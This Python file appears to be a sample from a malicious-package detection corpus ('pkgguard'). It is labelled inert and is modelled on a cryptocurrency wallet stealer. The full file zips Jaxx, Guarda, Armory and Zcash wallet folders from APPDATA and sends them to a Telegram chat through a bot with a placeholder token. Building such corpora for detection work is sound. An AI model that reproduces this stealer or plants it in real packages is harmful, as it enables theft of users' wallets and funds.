# pkgguard corpus 560 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import shutil
import tempfile

import telebot

bot = telebot.TeleBot("0000000000:placeholderplaceholderplaceholder00")
appdata = os.environ.get("APPDATA", "")
for wallet in ("com.liberty.jaxx", "Guarda", "Armory", "Zcash"):
    folder = os.path.join(appdata, wallet)
    if os.path.isdir(folder):
        archive = shutil.make_archive(os.path.join(tempfile.gettempdir(), wallet), "zip", folder)
        with open(archive, "rb") as fh:
            bot.send_document(-1000000000000, fh)
